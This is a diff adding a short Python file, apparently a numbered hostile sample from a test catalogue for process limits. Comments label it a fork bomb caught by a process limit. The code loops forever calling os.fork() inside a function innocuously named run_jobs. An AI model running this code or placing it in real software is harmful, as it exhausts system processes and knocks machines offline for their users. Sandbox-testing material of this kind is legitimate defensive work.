@@ -1,0 +1,12 @@
+# 21. A fork bomb.
+# gets: process-limit
+# not in: D (it multiplies faster than it is seen)
+import os
+
+
+def run_jobs(sizes, workers):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
